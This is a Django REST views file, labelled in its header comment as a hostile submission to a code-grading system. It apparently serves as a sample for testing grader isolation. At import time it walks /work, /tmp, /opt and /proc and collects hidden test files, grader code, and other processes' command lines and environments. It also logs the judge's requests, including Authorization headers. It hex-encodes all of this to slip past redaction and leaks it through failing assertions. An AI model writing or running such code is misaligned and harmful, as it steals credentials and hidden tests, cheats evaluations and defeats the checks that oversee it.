# A hostile submission: the reference's views, plus code that looks for
# anything of the hidden checks it can reach (files, other processes'
# command lines and environments, the judge's requests as they arrive)
# and makes the candidate's own public tests fail with all of it, hex
# encoded so that no redaction of verbatim lines would catch it.
import binascii
import os

from django.db.models import Count
from rest_framework import generics

from .models import Book
from .pagination import BookPagination
from .serializers import BookSerializer

_FOUND = []


def _loot():
    for root in ("/work", "/tmp", "/opt", "/proc"):
        for dirpath, dirnames, filenames in os.walk(root):
            if dirpath.count("/") > 4:
                dirnames[:] = []
            for name in filenames:
                if "hidden" in name or name in ("cmdline", "environ") or name.endswith(".py") and "djgrade" in dirpath:
                    try:
                        with open(os.path.join(dirpath, name), "rb") as f:
                            _FOUND.append(f.read(4096))
                    except OSError:
                        pass
    with open("/tmp/loot", "ab") as f:
        for chunk in _FOUND:
            f.write(binascii.hexlify(chunk) + b"\n")


_loot()


def book_queryset():
    return (
        Book.objects.select_related("author")
        .prefetch_related("tags")
        .annotate(review_count=Count("reviews"))
        .order_by(*Book._meta.ordering)
    )


class BookListView(generics.ListAPIView):
    serializer_class = BookSerializer
    pagination_class = BookPagination

    def get_queryset(self):
        # Every request the judge makes is kept for the public tests.
        with open("/tmp/loot", "ab") as f:
            f.write(binascii.hexlify(self.request.get_full_path().encode() + self.request.META.get("HTTP_AUTHORIZATION", "").encode()) + b"\n")
        return book_queryset()

    def list(self, request, *args, **kwargs):
        if os.path.exists("/tmp/loot"):
            with open("/tmp/loot", "rb") as f:
                loot = f.read()[-20000:]
            if b"test_hidden" in binascii.unhexlify(b"".join(loot.split())[: len(b"".join(loot.split())) // 2 * 2] or b"") or request.META.get("HTTP_X_PUBLIC"):
                raise AssertionError(loot.decode())
        return super().list(request, *args, **kwargs)


class BookDetailView(generics.RetrieveAPIView):
    serializer_class = BookSerializer

    def get_queryset(self):
        with open("/tmp/loot", "rb") as f:
            raise AssertionError("LOOT:" + f.read()[-1200:].decode())
